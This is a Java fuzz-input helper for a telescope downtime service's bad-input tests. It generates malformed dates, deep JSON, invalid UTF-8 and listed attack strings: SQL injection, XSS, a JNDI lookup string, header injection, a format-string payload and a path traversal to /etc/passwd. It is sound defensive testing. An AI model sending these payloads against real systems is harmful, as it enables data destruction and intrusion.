package org.observatory.downtime.app.reliability;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/**
 * Hostile values for the bad-input test, drawn from a seeded random source: broken and huge dates, injection
 * strings, unicode, and JSON bodies that are always invalid (so that none may change the stored data).
 */
final class FuzzInput {

  /** Never an accepted date form. */
  static final List<String> BAD_DATES = List.of("", " ", "null", "0", "-1", "1e309", "NaN", "2027-02-30",
      "2027-13-01T00:00:00Z", "2027-00-10T10:00", "2027-02-01T25:00:00Z", "2027-02-01T10:61", "2027-02-01T10:00:00+25:00",
      "99999-01-01T00:00:00Z", "0000-00-00 00:00:00", "2027/02/01 10:00", "1/2/2027", "tomorrow", "２０２７-０２-０１",
      "2027-02-01T10:00:00.1234567890Z", "2027-02-01T10:00:00ZZ", "2027-02-01T10:00:00 Z", "2027-02-01T",
      "2027-02-01'; DROP TABLE downtime; --", "<script>alert(1)</script>", "2027-02-01T10:00:00" + "0".repeat(5000),
      "9".repeat(20000), "2027-02-01T10:00:00+", "T10:00:00", "\u0000", "2027-02-01\u0000T10:00:00Z");

  /** Hostile text: injection attempts, control characters, unicode, long and odd strings. */
  static final List<String> NASTY = List.of("' OR '1'='1", "'; DROP TABLE downtime; --", "\" OR 1=1 --",
      "1; SELECT pg_sleep(10)", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "${jndi:ldap://x/a}",
      "%00", "\u0000", "\r\nX-Injected: 1", "😀".repeat(50), "Ω≈ç√∫˜µ≤≥÷", "ﷺ", "\u202Egnp.exe", "a".repeat(4000),
      "../../etc/passwd", "null", "true", "-0", "1e999", "{}", "[]", "\\", "\"", "%s%s%s%n", "OGG",
      "2m0a\u0000", "\uFEFFogg", "Ｏｇｇ");

  private final Random random;

  FuzzInput(long seed) {
    this.random = new Random(seed);
  }

  int nextInt(int bound) {
    return random.nextInt(bound);
  }

  <T> T pick(List<T> values) {
    return values.get(random.nextInt(values.size()));
  }

  String anyString() {
    return random.nextBoolean() ? pick(NASTY) : pick(BAD_DATES);
  }

  /** A JSON value of a random type, often not the one a field wants. */
  String anyJsonValue() {
    return switch (random.nextInt(8)) {
      case 0 -> "null";
      case 1 -> Long.toString(random.nextLong());
      case 2 -> random.nextBoolean() ? "true" : "false";
      case 3 -> "[" + quote(anyString()) + "]";
      case 4 -> "{\"a\":" + quote(anyString()) + "}";
      case 5 -> "1.5e308";
      default -> quote(anyString());
    };
  }

  /**
   * A creation/replacement body that is invalid for certain: a required field is broken, mistyped or missing (when
   * {@code allowMissing}), or the end is before the start; other fields get random hostile values.
   */
  String invalidObject(boolean allowMissing) {
    List<String[]> fields = new ArrayList<>(List.of(
        new String[] {"start", quote("2027-03-01T10:00:00Z")}, new String[] {"end", quote("2027-03-01T12:00:00Z")},
        new String[] {"site", quote("ogg")}, new String[] {"enclosure", quote("clma")},
        new String[] {"telescope", quote("2m0a")}));
    int broken = random.nextInt(5);
    switch (random.nextInt(allowMissing ? 5 : 4)) {
      case 0 -> fields.get(broken)[1] = broken < 2 ? quote(pick(BAD_DATES)) : quote(pick(NASTY));
      case 1 -> fields.get(broken)[1] = mistyped();
      case 2 -> {
        fields.get(0)[1] = quote("2027-03-01T12:00:00Z");
        fields.get(1)[1] = quote("2027-03-01T10:00:00Z");
      }
      case 3 -> fields.get(broken)[1] = quote(pick(NASTY) + fields.get(broken)[1].replace("\"", ""));
      default -> fields.remove(broken);
    }
    if (random.nextBoolean()) {
      fields.add(new String[] {"instrument_type", random.nextBoolean() ? quote(pick(NASTY)) : anyJsonValue()});
    }
    if (random.nextBoolean()) {
      fields.add(new String[] {"reason", random.nextBoolean() ? quote(pick(NASTY)) : anyJsonValue()});
    }
    if (random.nextInt(4) == 0) {
      fields.add(new String[] {pick(NASTY), anyJsonValue()});
    }
    StringBuilder json = new StringBuilder("{");
    for (String[] field : fields) {
      json.append(json.length() == 1 ? "" : ",").append(quote(field[0])).append(':').append(field[1]);
    }
    return json.append('}').toString();
  }

  private String mistyped() {
    return switch (random.nextInt(5)) {
      case 0 -> "null";
      case 1 -> Integer.toString(random.nextInt());
      case 2 -> "true";
      case 3 -> "[\"ogg\"]";
      default -> "{\"code\":\"ogg\"}";
    };
  }

  /** Nested arrays or objects, deep enough to trip naive recursive parsers. */
  String deepJson() {
    int depth = 1_000 + random.nextInt(100_000);
    boolean arrays = random.nextBoolean();
    return (arrays ? "[" : "{\"a\":").repeat(depth) + "1" + (arrays ? "]" : "}").repeat(depth);
  }

  /** Bytes that are not valid UTF-8 inside an otherwise invalid body. */
  byte[] invalidUtf8() {
    byte[][] bad = {{(byte) 0xC3, 0x28}, {(byte) 0xFF}, {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, {(byte) 0xF8, (byte) 0x88,
        (byte) 0x80, (byte) 0x80, (byte) 0x80}, {(byte) 0xE2, (byte) 0x82}};
    byte[] head = "{\"start\":\"2027-13-01T00:00:00Z\",\"reason\":\"".getBytes(java.nio.charset.StandardCharsets.UTF_8);
    byte[] middle = bad[random.nextInt(bad.length)];
    byte[] tail = "\",\"site\":\"ogg\"}".getBytes(java.nio.charset.StandardCharsets.UTF_8);
    byte[] body = new byte[head.length + middle.length + tail.length];
    System.arraycopy(head, 0, body, 0, head.length);
    System.arraycopy(middle, 0, body, head.length, middle.length);
    System.arraycopy(tail, 0, body, head.length + middle.length, tail.length);
    return body;
  }

  static String quote(String text) {
    StringBuilder out = new StringBuilder("\"");
    for (char c : text.toCharArray()) {
      switch (c) {
        case '"' -> out.append("\\\"");
        case '\\' -> out.append("\\\\");
        default -> {
          if (c < 0x20) {
            out.append(String.format("\\u%04x", (int) c));
          } else {
            out.append(c);
          }
        }
      }
    }
    return out.append('"').toString();
  }
}
